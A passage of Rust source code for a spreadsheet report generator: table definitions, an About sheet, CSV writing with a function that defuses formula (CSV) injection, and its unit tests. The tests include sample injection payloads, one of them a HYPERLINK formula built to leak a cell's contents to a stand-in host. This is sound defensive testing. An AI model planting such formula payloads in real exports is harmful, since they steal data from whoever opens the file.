    Table::new(
        "Progress by region",
        "One row per region, and one for England, and pair of rounds: the progress of its ICBs",
        columns,
        rows,
    )
}

/// Every table of a collation, in the workbook's order (About, which describes them, aside).
pub fn all(c: &Collation, today: Date) -> Vec<Table<'_>> {
    vec![
        summary(c),
        domains_by_region(c),
        returns(c),
        questions(c),
        barriers(c),
        flags(c),
        actions(c, today),
        not_returned(c),
        team_returns(c),
        team_questions(c),
        progress(c, today),
        progress_by_region(c, today),
        files(c),
    ]
}

/// What each sheet and column means, when and by what the report was made, and the index
/// edition: the About sheet.
pub fn about<'a>(tables: &[(&'static str, &'static str, Vec<Column>)], generated: &Generated) -> Table<'a> {
    let index = Index::current();
    let columns = vec![
        col("sheet", Kind::Text, 16.0, "The sheet"),
        col("column", Kind::Text, 28.0, "The column (empty for the sheet itself)"),
        col("meaning", Kind::Text, 100.0, "What it holds"),
    ];
    let date = generated.date();
    let mut rows: Vec<Row<'a>> = vec![
        vec![Cell::text("Workbook"), Cell::text("generated"), Cell::text(format!("{date} (UTC), by {}", generated.by))],
        vec![
            Cell::text("Workbook"),
            Cell::text("index edition"),
            Cell::text(format!("{}: {}", index.version, index.title)),
        ],
        vec![
            Cell::text("Workbook"),
            Cell::text("counts"),
            Cell::text(
                "National and regional counts are over ICB-level returns; team and provider returns are on their own sheets",
            ),
        ],
        vec![
            Cell::text("Workbook"),
            Cell::text("text"),
            Cell::text(
                "Text is exactly as the returns have it; a text longer than Excel's 32,767 characters is cut, marked, and listed on Files",
            ),
        ],
    ];
    for (name, about, columns) in tables {
        rows.push(vec![Cell::text(*name), Cell::Empty, Cell::text(*about)]);
        for c in columns {
            rows.push(vec![Cell::text(*name), Cell::Text(c.name.clone()), Cell::Text(c.about.clone())]);
        }
    }
    Table::new("About", "What each sheet and column means", columns, rows.into_iter())
}

/// Makes text inert when a spreadsheet opens it as CSV (CSV injection, as OWASP describes it).
///
/// A spreadsheet may strip leading spaces and control characters before it looks for a formula
/// (LibreOffice drops a NUL, and with "trim spaces" the spaces), so the text is looked at after
/// any leading whitespace and control characters (NUL, tab, CR, LF, vertical tab, form feed, no-
/// break space, the ideographic space U+3000 ...): when it then begins with `=`, `+`, `-` or `@`,
/// or their full-width forms `＝＋－＠`, the whole text gets a leading `'`, which the spreadsheet
/// shows as text. A NUL is never written (no spreadsheet keeps one). Only CSV needs this: a
/// workbook's text cells are never formulas, so they are written exactly as the return has them.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    let text: Cow<'_, str> = if text.contains('\0') { Cow::Owned(text.replace('\0', "")) } else { Cow::Borrowed(text) };
    let first = text.chars().find(|c| !(c.is_whitespace() || c.is_control()));
    let risky = matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
        // A leading tab or CR is itself on OWASP's list.
        || text.starts_with(['\t', '\r']);
    if risky { Cow::Owned(format!("'{text}")) } else { text }
}

/// Writes a table as CSV (RFC 4180, CRLF line ends) with a UTF-8 byte-order mark first (without
/// it Excel (UK) reads the file as Windows-1252 and shows "Siân" as "SiÃ¢n" and "£" as "Â£").
/// Text cells are neutralised ([`neutralise`]); numbers, dates and times are written as text
/// (a share as its fraction, a date as `YYYY-MM-DD`, a time as the return wrote it).
pub fn write_csv(table: Table<'_>, out: &mut impl Write) -> io::Result<()> {
    fn field(out: &mut impl Write, text: &str, neutral: bool) -> io::Result<()> {
        let text = if neutral { neutralise(text) } else { Cow::Borrowed(text) };
        if text.contains([',', '"', '\n', '\r']) {
            write!(out, "\"{}\"", text.replace('"', "\"\""))
        } else {
            out.write_all(text.as_bytes())
        }
    }
    out.write_all("\u{FEFF}".as_bytes())?;
    for (i, c) in table.columns.iter().enumerate() {
        if i > 0 {
            out.write_all(b",")?;
        }
        field(out, &c.name, true)?;
    }
    out.write_all(b"\r\n")?;
    for row in table.rows {
        for (i, cell) in row.iter().enumerate() {
            if i > 0 {
                out.write_all(b",")?;
            }
            field(out, &cell.as_text(), matches!(cell, Cell::Text(_)))?;
        }
        out.write_all(b"\r\n")?;
    }
    Ok(())
}

/// A table as CSV text (see [`write_csv`]).
pub fn to_csv(table: Table<'_>) -> String {
    let mut out = Vec::new();
    // Writing to a Vec cannot fail.
    let _ = write_csv(table, &mut out);
    String::from_utf8(out).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_text_is_neutralised_and_fields_quoted() {
        for (input, out) in [
            ("=SUM(A1)", "'=SUM(A1)"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@cmd", "'@cmd"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("plain", "plain"),
            ("", ""),
            // Behind what a spreadsheet strips first: NUL (removed), spaces, controls, NBSP.
            ("\u{0}=1+1", "'=1+1"),
            ("\u{0}\u{0}=HYPERLINK(\"http://x/?leak=\"&A2)", "'=HYPERLINK(\"http://x/?leak=\"&A2)"),
            (" =1+1", "' =1+1"),
            ("\n\u{b}\u{c}\u{a0}\u{3000}-2", "'\n\u{b}\u{c}\u{a0}\u{3000}-2"),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠SUM(1)", "'＠SUM(1)"),
            ("   plain", "   plain"),
            ("a = b", "a = b"),
            ("Siân – £1.2m", "Siân – £1.2m"),
            ("x\u{0}y", "xy"),
        ] {
            assert_eq!(neutralise(input), out, "{input:?}");
        }
        let t = Table::new(
            "T",
            "",
            vec![col("a", Kind::Text, 1.0, ""), col("b", Kind::Score, 1.0, ""), col("c", Kind::Date, 1.0, "")],
            vec![
                vec![Cell::text("=HYPERLINK(\"x\")"), Cell::Number(2.5), Cell::date(Some("2025-03-31"))],
                vec![Cell::text("a, \"b\"\nc"), Cell::Empty, Cell::date(Some("31/03/2025"))],
                // A negative number is a number, not a formula.
                vec![Cell::Empty, Cell::Number(-1.0), Cell::Empty],
            ]
            .into_iter(),
        );
        assert_eq!(
            to_csv(t),
            "\u{FEFF}a,b,c\r\n\"'=HYPERLINK(\"\"x\"\")\",2.5,2025-03-31\r\n\"a, \"\"b\"\"\nc\",,31/03/2025\r\n,-1,\r\n"
        );
    }

    #[test]
    fn generated_dates_are_utc_days() {
        let g = |s| Generated { unix_seconds: s, by: String::new() }.date().to_string();
        assert_eq!(g(0), "1970-01-01");
        assert_eq!(g(1_727_654_399), "2024-09-29");
        assert_eq!(g(1_727_654_400), "2024-09-30");
        assert_eq!(g(951_782_400), "2000-02-29");
        assert_eq!(g(-1), "1969-12-31");
    }
}
